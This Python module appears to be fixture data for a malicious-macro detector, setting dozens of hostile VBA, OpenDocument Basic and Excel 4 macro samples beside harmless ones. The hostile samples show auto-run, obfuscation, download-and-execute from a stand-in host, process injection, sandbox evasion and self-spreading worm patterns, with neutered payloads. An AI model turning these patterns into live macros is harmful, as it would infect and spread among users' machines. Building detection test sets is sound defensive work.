# ruff: noqa: E501  sources stand as they are written
"""More macros in the styles that public reports describe, and honest ones: sources of Visual Basic and of OpenDocument,
formulas of Excel 4.  What the hostile ones would do is "start nothing" or ask example.invalid."""

from __future__ import annotations

_GO = "Sub AutoOpen()\n{}\nEnd Sub"
_OPEN = "Private Sub Workbook_Open()\n{}\nEnd Sub"


def _numbers(text: str, key: int) -> str:
    return ", ".join(str(ord(each) + key) for each in text)


def _hex(text: str) -> str:
    return text.encode().hex()


# Each begins by itself.
HOSTILE: dict[str, str] = {
    "wmi-startup": _GO.format(
        'Set s = GetObject("winmgmts:Win32_ProcessStartup").SpawnInstance_\ns.ShowWindow = 0\n'
        'Set p = GetObject(Replace("winm@@gmts:Win32@@_Process", "@@", ""))\n'
        'p.Create Replace("pow@@ershell -c 1", "@@", ""), Null, s, i'
    ),
    "numbers-minus-key": "Function d(a)\nFor Each c In a\nd = d & Chr(c - 13)\nNext\nEnd Function\n"
    + _GO.format(f"x = d(Array({_numbers('powershell -c 1; powershell -c 2; write a text file', 13)}))\nShell x, 0"),
    "cells": _OPEN.format(
        'x = Sheets("a").Range("B2").Value & Sheets("a").Range("B3").Value\nShell x, vbHide\n'
        "Application.DisplayAlerts = False"
    ),
    "startup-folder": _GO.format(
        'f = Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"\n'
        'Open f For Output As #1\nPrint #1, "MsgBox 1"\nClose #1'
    ),
    "rundll32": _GO.format(
        'Open Environ("TEMP") & "\\a.dll" For Binary As #1\nPut #1, , b\nClose #1\n'
        'Shell "rundll32 " & Environ("TEMP") & "\\a.dll,Start"'
    ),
    "callbyname-stream": _GO.format(
        'Set h = CreateObject("MSXML2.XMLHTTP")\nCallByName h, "Open", 1, "GET", "http://example.invalid/a", False\n'
        'Set s = CreateObject("ADODB.Stream")\nCallByName s, "SaveToFile", 1, "a.exe", 2'
    ),
    "hta": _GO.format(
        'Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("a.hta")\nf.Write "<script>1</script>"\n'
        'Shell "mshta a.hta"'
    ),
    "shell-browser-window": _GO.format(
        'Set o = GetObject("new:C08AFD90-F2A1-11D1-8455-00A0C91F3880")\n'
        'o.Document.Application.ShellExecute "cmd.exe", "/c echo test", "", Null, 0'
    ),
    "comspec": _GO.format('Shell Environ("COMSPEC") & " /c start /b powershell -c 1", 0'),
    "profile-string": _GO.format(
        'System.PrivateProfileString("", "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Word\\Security", '
        '"AccessVBOM") = 1\nShell "cmd /c echo 1"'
    ),
    "content-control": "Sub Document_ContentControlOnEnter(ByVal c As ContentControl)\n"
    'Shell "powershell -ep bypass -c 1"\nEnd Sub',
    "activate": 'Private Sub Workbook_Activate()\nCreateObject("WScript.Shell").Run "cmd /c echo 1", 0\n'
    'x = "http://example.invalid/a.exe"\nEnd Sub',
    "on-time": 'Sub Auto_Open()\nApplication.OnTime Now + TimeValue("00:00:05"), "Later"\nEnd Sub\n'
    'Sub Later()\nShell "regsvr32 /s a.dll"\nEnd Sub',
    "locales": 'Private Declare PtrSafe Function Go Lib "kernel32" Alias "EnumSystemLocalesA" (ByVal a As LongPtr) As Long\n'
    'Private Declare PtrSafe Function Room Lib "kernel32" Alias "HeapCreate" (ByVal a As Long) As LongPtr\n'
    + _GO.format("p = Room(&H40000)\nGo p"),
    "move-memory": 'Private Declare PtrSafe Sub Copy Lib "kernel32" Alias "RtlMoveMemory" (ByVal a As LongPtr)\n'
    'Private Declare PtrSafe Function VirtualAllocEx Lib "kernel32" (ByVal a As LongPtr) As LongPtr\n'
    'Private Declare PtrSafe Function CreateRemoteThread Lib "kernel32" (ByVal a As LongPtr) As LongPtr\n'
    + _GO.format("p = VirtualAllocEx(1)\nCopy p\nCreateRemoteThread p"),
    "sandbox": _GO.format(
        'If Application.RecentFiles.Count < 3 Then Exit Sub\nIf InStr(Environ("COMPUTERNAME"), "SANDBOX") Then End\n'
        'Shell "powershell -w hidden -c 1"'
    ),
    "hex-function": 'Function h(s)\nFor i = 1 To Len(s) Step 2\nh = h & Chr(Val("&H" & Mid(s, i, 2)))\nNext\nEnd Function\n'
    + _GO.format(
        f'Shell h("{_hex("cmd.exe /c echo this is a test of nothing > a.txt")}"), 0\n'
        f'x = h("{_hex("http://example.invalid/one/more/address/of/nothing/at/all.exe")}")'
    ),
    "base64-dom": _GO.format(
        'Set n = CreateObject("MSXML2.DOMDocument").createElement("b64")\nn.DataType = "bin.base64"\n'
        f'n.Text = "{"TVqQAAMAAAAEAAAA8AALgAAAAxkY3ViZXIgdGVzdA" * 6}"\n'
        'Open Environ("TEMP") & "\\a.exe" For Binary As #1\nPut #1, , n.nodeTypedValue\nClose #1\n'
        'CreateObject("Shell.Application").Open Environ("TEMP") & "\\a.exe"'
    ),
    "xor": "Function x(s, k)\nFor i = 1 To Len(s)\nx = x & Chr(Asc(Mid(s, i, 1)) Xor k)\nNext\nEnd Function\n"
    + _GO.format('CreateObject(x("PTdunwsQ)Tobkk", 7)).Run x("djc)b(d", 7), 0\nShell x("djc", 7)\nEnviron "TEMP"'),
    "strconv": _GO.format(
        f'b = StrReverse("{"1 c- llehsrewop"}")\nShell StrConv(StrConv(b, vbFromUnicode), vbUnicode), 0'
    ),
    "exec-by-excel4": _OPEN.format('ExecuteExcel4Macro "EXEC(""powershell -c 1"")"'),
    "outlook-shell": _GO.format(
        'Set o = CreateObject("Outlook.Application")\nSet s = o.CreateObject("Wscr" & "ipt.Shell")\ns.Run "cmd /c echo 1"'
    ),
    "shell-windows": _GO.format(
        'Set o = GetObject("new:9BA05972-F6A8-11CF-A442-00A0C90A8F39")\n'
        'o.Item.Document.Application.ShellExecute "powershell", "-c 1"'
    ),
    "winhttp": _GO.format(
        'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "GET", "http://example.invalid/a.exe", False\nh.Send\n'
        'Open "a.exe" For Binary As #1\nPut #1, , h.ResponseBody\nClose #1\nShell "a.exe", 0'
    ),
    "batch": _GO.format(
        'Open "C:\\Users\\Public\\a.bat" For Output As #1\nPrint #1, "powershell -c 1"\nClose #1\n'
        'Shell "C:\\Users\\Public\\a.bat", vbHide'
    ),
    "vbs": _GO.format(
        'Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Environ("TEMP") & "\\a.vbs")\n'
        'f.WriteLine "CreateObject(""WScript.Shell"").Run ""calc"""\nShell "wscript.exe " & Environ("TEMP") & "\\a.vbs"'
    ),
    "scriptlet": _GO.format('Set o = GetObject("script:http://example.invalid/a.sct")\no.Run'),
    "explorer-object": _GO.format(
        'Set i = CreateObject("InternetExplorer.Application")\ni.Navigate "http://example.invalid/a"\n'
        'Open "a.js" For Output As #1\nPrint #1, i.Document.Body.innerText\nShell "cscript a.js"'
    ),
    "ftp": _GO.format(
        'Open "a.txt" For Output As #1\nPrint #1, "open example.invalid"\nClose #1\nShell "cmd /c ftp -s:a.txt"'
    ),
    "popen": 'Private Declare PtrSafe Function popen Lib "libc.dylib" (ByVal c As String, ByVal m As String) As LongPtr\n'
    + _GO.format('popen "curl -s http://example.invalid/a | bash", "r"'),
    "msiexec": _GO.format('Shell "msiexec /q /i http://example.invalid/a.msi"'),
    "worm": "Sub Document_Close()\nFor Each d In Documents\n"
    "d.VBProject.VBComponents(1).CodeModule.InsertLines 1, NormalTemplate.VBProject.VBComponents(1).CodeModule.Lines(1, 9)\n"
    "Next\nOptions.VirusProtection = False\nEnd Sub",
    "mail-worm": 'Sub AutoOpen()\nSet o = CreateObject("Outlook.Application")\n'
    'For Each a In o.GetNamespace("MAPI").AddressLists\nSet m = o.CreateItem(0)\nm.Attachments.Add ActiveDocument.FullName\n'
    'm.Send\nNext\nNormalTemplate.VBProject.VBComponents.Import "a.bas"\nShell "cmd /c echo"\nEnd Sub',
    "xll": _OPEN.format('Open "a.xll" For Binary As #1\nPut #1, , b\nApplication.RegisterXLL "a.xll"'),
    "wsh-exec": _GO.format('x = CreateObject("WScript.Shell").Exec("power" & "shell -c 1").StdOut.ReadAll'),
    "net-use": _GO.format('Shell "cmd /c copy \\\\example.invalid\\a\\b.exe %TEMP% & %TEMP%\\b.exe"'),
    "odd-names": "\n".join(
        f"Dim {name}" for name in ("qwrtzpsdfg", "hjklxcvbnm", "bcdfghjk12", "xkcdfghjkl", "wqrtpsdfgh")
    )
    + "\n"
    + _GO.format('mnbvcxzlkj = "cm" & "d /c ec" & "ho"\nShell mnbvcxzlkj'),
    "navigate": 'Sub WebBrowser1_DocumentComplete(ByVal a As Object, b As Variant)\nShell "mshta http://example.invalid"\nEnd Sub',
    "mouse": 'Sub Image1_MouseMove(ByVal a As Integer)\nCreateObject("WScript.Shell").Run "powershell -c 1", 0\nEnd Sub',
    "one-line": 'Sub AutoOpen(): a = "WScr": b = "ipt.Sh": c = "ell": Set o = CreateObject(a & b & c): d = "pow": '
    'e = "ershell": o.Run d & e & " -c 1", 0: End Sub',
    "then": 'Sub AutoOpen()\nIf True Then a = "WScr"\nIf 1 = 1 Then b = "ipt.Shell"\n'
    'CreateObject(a & b).Run "cmd /c echo 1"\nEnd Sub',
    "constants": 'Public Const k1 As String = "WScr", k2 As String = "ipt.Sh", k3 As String = "ell"\n'
    'Sub AutoOpen()\nCreateObject(k1 & k2 & k3).Run "cmd /c echo 1"\nEnd Sub',
    "own-decoder": "Sub Document_Open()\n"
    'Set o = CreateObject(d("WxSxcxrxixpxtx.xSxhxexlxlx"))\no.Run d("exchxo")\nEnd Sub\n'
    "Function d(s)\nFor i = 1 To Len(s) Step 2\nd = d & Mid(s, i, 1)\nNext\nEnd Function",
    "numbers-decoder": "Function n(a)\nFor Each x In a\nn = n & Chr(x - 7)\nNext\nEnd Function\nSub Workbook_Open()\n"
    "p = n(Array(94, 90, 106, 121, 112, 119, 123, 53, 90, 111, 108, 115, 115))\nCreateObject(p).Run p\nEnd Sub",
    "cell-object": 'Sub Workbook_Open()\nCreateObject(Sheets("x").Range("A1").Value).Run Range("B1").Value, 0\nEnd Sub',
    "paragraphs": "Sub AutoOpen()\nCreateObject(ActiveDocument.Paragraphs(1).Range.Text).Run 1\nEnd Sub",
    "template": 'Sub AutoOpen()\nActiveDocument.AttachedTemplate = "http://example.invalid/a.dotm"\nEnd Sub',
    "address-book": 'Sub Document_Open()\nFor Each l In CreateObject("Outlook.Application").GetNamespace("MAPI").AddressLists\n'
    "For Each e In l.AddressEntries\nMsgBox e.Address\nNext\nNext\nEnd Sub",
    "layout": 'Sub Frame1_Layout()\nShell Replace("p-o-w-e-r-s-h-e-l-l", "-", "")\nEnd Sub',
}

HARMLESS: dict[str, str] = {
    "file-there": 'Sub Workbook_Open()\nSet f = CreateObject("Scripting.FileSystemObject")\n'
    'If Not f.FileExists("rates.xls") Then MsgBox "Where are the rates?"\nEnd Sub',
    "classes": 'Sub Workbook_Open()\nids = Array("MSXML2.DOMDocument.6.0", "MSXML2.DOMDocument")\nFor i = 0 To 1\n'
    "Set h = CreateObject(ids(i))\nNext\nEnd Sub",
    "late": 'Function App(s)\nSet App = CreateObject(s)\nEnd Function\nSub Workbook_Open()\nSet a = App("Word.Application")\nEnd Sub',
    "sort": 'Sub SortIt()\nRange("A1:C99").Sort Key1:=Range("A1"), Order1:=xlAscending\nEnd Sub',
    "print": "Private Sub Workbook_BeforePrint(Cancel As Boolean)\nActiveSheet.PageSetup.LeftFooter = Now\nEnd Sub",
    "chart": "Sub Chart()\nActiveSheet.Shapes.AddChart2(201, xlColumnClustered).Select\nEnd Sub",
    "pivot": "Sub P()\nFor Each p In ActiveSheet.PivotTables\np.RefreshTable\nNext\nEnd Sub",
    "toc": "Sub AutoOpen()\nActiveDocument.TablesOfContents(1).Update\nEnd Sub",
    "letter": 'Sub AutoNew()\nActiveDocument.Bookmarks("Date").Range.Text = Format(Date, "d mmmm yyyy")\nEnd Sub',
    "combo": 'Sub UserForm_Initialize()\nComboBox1.AddItem "One"\nComboBox1.AddItem "Two"\nEnd Sub',
    "validate": "Sub Worksheet_Change(ByVal Target As Range)\nIf Not IsNumeric(Target) Then Target = 0\nEnd Sub",
    "color": "Sub Worksheet_SelectionChange(ByVal t As Range)\nCells.Interior.ColorIndex = 0\nt.Interior.Color = vbYellow\nEnd Sub",
    "protect": 'Sub Workbook_Open()\nFor Each s In Worksheets\ns.Protect "a", UserInterfaceOnly:=True\nNext\nEnd Sub',
    "zoom": "Sub Workbook_Open()\nActiveWindow.Zoom = 85\nApplication.WindowState = xlMaximized\nEnd Sub",
    "fibonacci": "Function Fib(n)\nIf n < 2 Then Fib = n Else Fib = Fib(n - 1) + Fib(n - 2)\nEnd Function",
    "spell": 'Function Spell(ByVal n)\nUnits = Array("", "one", "two", "three", "four", "five")\nSpell = Units(n)\nEnd Function',
    "iban": "Function Check(s)\nFor i = 1 To Len(s)\nc = Asc(Mid(s, i, 1))\nr = (r * 10 + c) Mod 97\nNext\nCheck = r\nEnd Function",
    "query": 'Sub Q()\nSet r = CreateObject("ADODB.Recordset")\nr.Open "SELECT * FROM a", "DSN=b"\nRange("A2").CopyFromRecordset r\nEnd Sub',
    "log": 'Sub Workbook_Open()\nSheets("Log").Range("A1").End(xlDown).Offset(1) = Environ("USERNAME")\nEnd Sub',
    "folder-list": 'Sub L()\nf = Dir("C:\\data\\*.xls")\nDo While f <> ""\nCells(i, 1) = f\ni = i + 1\nf = Dir\nLoop\nEnd Sub',
    "mail-merge": "Sub M()\nActiveDocument.MailMerge.Execute Pause:=False\nEnd Sub",
    "slides": "Sub NextSlide()\nSlideShowWindows(1).View.Next\nEnd Sub",
    "quiz": 'Sub Right()\nMsgBox "Right!"\nActivePresentation.SlideShowWindow.View.Next\nEnd Sub',
    "about": 'Sub About()\nMsgBox "Version 2.1" & vbCrLf & "(c) Example", vbInformation, "About"\nEnd Sub',
    "class": "Private mName As String\nPublic Property Get Name() As String\nName = mName\nEnd Property",
    "constants": 'Public Const cPath = "C:\\Reports\\"\nPublic Const cUrl = "https://example.invalid/help"\nSub H()\nEnd Sub',
    "round": "Function RoundUp5(x)\nRoundUp5 = -Int(-x / 5) * 5\nEnd Function",
    "names": "Sub N()\nFor Each n In ActiveWorkbook.Names\nDebug.Print n.Name\nNext\nEnd Sub",
    "export": 'Sub E()\nThisWorkbook.Sheets(1).Copy\nActiveWorkbook.SaveAs "report.csv", xlCSV\nActiveWorkbook.Close False\nEnd Sub',
    "chess": "Function Beat(a, b)\nBeat = (a Xor b) And 7\nEnd Function",
    "roman": 'Function R(n)\nR = Replace(Replace("IIIII", "IIIII", "V"), "VV", "X")\nEnd Function',
    "initials": 'Function I(s)\nFor Each w In Split(s, " ")\nI = I & Left(w, 1)\nNext\nEnd Function',
    "variables": 'Sub V()\nActiveDocument.Variables("Count").Value = ActiveDocument.Variables("Count").Value + 1\nEnd Sub',
}

# OpenDocument Basic.
BASIC: dict[str, str] = {
    "shell": 'Sub Main\n Shell("cmd.exe /c echo 1")\nEnd Sub',
    "powershell": 'Sub Main\n Shell("power" & "shell", 0, "-c 1")\nEnd Sub',
    "bridge": 'Sub Main\n o = createUnoService("com.sun.star.system.SystemShellExecute")\n'
    ' o.execute("powershell", "-c 1", 0)\n Shell("bash -c true")\nEnd Sub',
    "write": 'Sub Main\n Open "/tmp/a.bat" For Output As #1\n Print #1, "powershell -c 1"\n Close #1\n Shell("/tmp/a.bat")\nEnd Sub',
    "chr": "Sub Main\n x = " + " & ".join(f"Chr({ord(each)})" for each in "/bin/sh -c true") + "\n Shell(x)\nEnd Sub",
    "ole": 'Sub Main\n f = createUnoService("com.sun.star.bridge.OleObjectFactory")\n'
    ' s = f.createInstance("WScript.Shell")\n s.Run("cmd.exe /c echo 1")\nEnd Sub',
}
BASIC_HARMLESS: dict[str, str] = {
    "message": 'Sub Main\n MsgBox "hello"\nEnd Sub',
    "cell": "Sub Main\n ThisComponent.Sheets(0).getCellByPosition(0, 0).Value = 1\nEnd Sub",
    "dialog": 'Sub Main\n DialogLibraries.LoadLibrary("Standard")\n d = CreateUnoDialog(DialogLibraries.Standard.D)\n'
    " d.execute()\nEnd Sub",
    "sum": "Function S(a, b)\n S = a + b\nEnd Function",
    "text": 'Sub Main\n c = ThisComponent.Text.createTextCursor()\n ThisComponent.Text.insertString(c, "a", False)\nEnd Sub',
    "store": 'Sub Main\n ThisComponent.storeToURL("file:///tmp/a.pdf", Array())\nEnd Sub',
}

# Formulas of Excel 4, as text, of one macro sheet: "=" is left out.
XLM: dict[str, list[str]] = {
    "exec": ['EXEC("powershell -c 1")', "HALT()"],
    "exec-cells": ['EXEC(B1&B2&" /c echo 1")', "HALT()"],  # of the cells beside: "cmd", ".exe"
    "chars": ["EXEC(" + "&".join(f"CHAR({ord(each)})" for each in "mshta http://example.invalid") + ")"],
    "register": [
        'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Get",,1,9)',
        'Get(0,"http://example.invalid/a","a.dll",0,0)',
        'EXEC("rundll32 a.dll,Start")',
    ],
    "call": ['CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","regsvr32","/s a.dll",0,0)'],
    "formula": ['FORMULA("=EX"&"EC(""powershell -c 1"")",A5)', "GOTO(A5)"],
    "write": ['FOPEN("a.vbs",3)', 'FWRITE(A1,"CreateObject(""WScript.Shell"")")', 'EXEC("wscript a.vbs")'],
    "sandbox": ["IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", 'EXEC("cmd.exe /c powershell -c 1")'],
    "memory": [
        'REGISTER("Kernel32","VirtualAlloc","JJJJJ","Room",,1,9)',
        'CALL("Kernel32","WriteProcessMemory","JJJ",-1)',
        'CALL("Kernel32","CreateThread","JJJ",0)',
    ],
    "mid": ['EXEC(MID("xpowershell -c 1",2,20))'],
}
XLM_HARMLESS: dict[str, list[str]] = {
    "alert": ['ALERT("hello",2)', "RETURN()"],
    "format": ['FORMAT.NUMBER("0.00")', "RETURN()"],
    "select": ["SELECT(A1)", "HALT()"],
    "print": ["PRINT(1,,,1)", "RETURN()"],
    "save": ["SAVE()", "RETURN()"],
}
